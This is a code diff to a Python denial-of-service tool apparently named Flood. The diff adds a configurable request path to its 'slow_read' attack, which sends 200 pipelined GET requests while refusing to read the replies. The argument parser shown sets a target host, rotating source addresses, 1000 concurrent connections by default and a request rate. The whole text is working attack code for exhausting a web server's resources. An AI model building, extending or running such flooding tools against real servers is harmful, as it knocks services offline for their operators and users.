@@ -74,7 +74,7 @@ class Flood:
     async def slow_read(self, _reader, writer):
         """Asks for much and reads nothing."""
         writer.transport.pause_reading()
-        writer.write(f"GET / HTTP/1.1\r\nHost: {self.options.name}\r\n\r\n".encode() * 200)
+        writer.write(f"GET {self.options.path} HTTP/1.1\r\nHost: {self.options.name}\r\n\r\n".encode() * 200)
         await asyncio.sleep(self.options.seconds)
 
     async def websocket(self, reader, writer):
@@ -134,6 +134,7 @@ def main():
     parser.add_argument("--target", required=True, help="address of the host")
     parser.add_argument("--source", required=True, nargs="+", help="addresses to come from, one after the other")
     parser.add_argument("--name", default="localhost", help="name of the site (default: %(default)s)")
+    parser.add_argument("--path", default="/", help="what slow_read asks for (default: %(default)s)")
     parser.add_argument("--connections", type=int, default=1000, help="connections to try for at once (default: %(default)s)")
     parser.add_argument("--rate", type=float, default=10, help="visits in a second (default: %(default)s)")
     parser.add_argument("--seconds", type=float, default=10, help="(default: %(default)s)")
